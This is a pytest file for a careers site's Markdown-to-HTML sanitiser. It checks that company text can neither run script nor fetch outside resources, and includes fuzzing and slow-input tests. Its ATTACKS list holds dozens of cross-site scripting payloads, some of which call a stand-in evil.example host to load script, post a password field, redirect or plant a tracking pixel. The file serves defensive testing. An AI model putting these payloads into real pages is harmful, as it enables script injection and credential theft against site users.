"""Formatted text of companies: what is shown, and what never is."""

from __future__ import annotations

import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.careers.markdown import SCHEMES, TAGS, to_html, to_plain

# Lines of OWASP's and PortSwigger's lists of cross-site scripting, and of those against Markdown.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=javascript:alert('XSS')>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<details open ontoggle=alert(1)>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style='background:url(https://evil.example)'>x</p>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    '[x](https://a.example "onclick=alert(1)")',
    "[x](https://a.example'onmouseover='alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[a](<javascript:alert(1)>)",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    'https://a.example/"onmouseover=alert(1)//',
    "https://a.example/<script>alert(1)</script>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<\u2028script>alert(1)</script>",
]


class _Reader(HTMLParser):
    """What a browser would make of the HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_safe(html: str) -> None:
    for tag, attributes in _Reader(html).tags:
        assert tag in TAGS, html
        allowed = {"a": {"href", "rel"}, "ol": {"start"}}.get(tag, set())
        assert attributes.keys() <= allowed, html
        if href := attributes.get("href"):
            scheme, colon, _rest = href.partition(":")
            assert not colon or scheme.lower() in SCHEMES or "/" in scheme, html


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_runs_and_nothing_is_fetched(text: str) -> None:
    for each in (text, f"- {text}", f"> {text}", f"**{text}**", f"# {text}"):
        assert_safe(to_html(each))


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("<>[]()!*_`#-\n \"'&:/;=axjsrc\\"), max_size=60))
def test_no_text_makes_anything_else(text: str) -> None:
    assert_safe(to_html(text))


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("One\ntwo", "<p>One<br>\ntwo</p>"),
        ("**bold** *it* ~~no~~", "<p><strong>bold</strong> <em>it</em> <s>no</s></p>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("3. a", '<ol start="3">\n<li>a</li>\n</ol>'),
        ("# Top", "<h2>Top</h2>"),
        ("##### Deep", "<h4>Deep</h4>"),
        ("A & B < C", "<p>A &amp; B &lt; C</p>"),
        ("", ""),
    ],
)
def test_a_part_of_markdown_is_formatted(text: str, html: str) -> None:
    assert to_html(text) == html


def test_links_tell_search_engines_and_pages_nothing() -> None:
    rel = "nofollow noopener noreferrer ugc"

    assert to_html("[us](https://a.example)") == (
        f'<p><a href="https://a.example" rel="{rel}">us</a></p>'
    )
    assert f'<a href="https://a.example/x" rel="{rel}">' in to_html("See https://a.example/x.")
    assert to_html("[https://b.example](https://a.example)").count("<a ") == 1
    assert 'href="mailto:jobs@a.example"' in to_html("Write to jobs@a.example")


def test_the_plain_text_is_one_line_without_marks() -> None:
    assert to_plain("# Cook\n\n- **Early** & late\n- [us](https://a.example)") == (
        "Cook Early & late us"
    )


@pytest.mark.parametrize(
    "text",
    [">" * 20_000, "[" * 20_000, "*" * 20_000, "![" * 10_000, "- " * 10_000, "a_" * 10_000,
     "<" * 20_000, "https://" * 2_500, "**a " * 5_000],
)  # fmt: skip
def test_no_text_takes_long(text: str) -> None:
    start = time.process_time()

    assert_safe(to_html(text))

    assert time.process_time() - start < 5
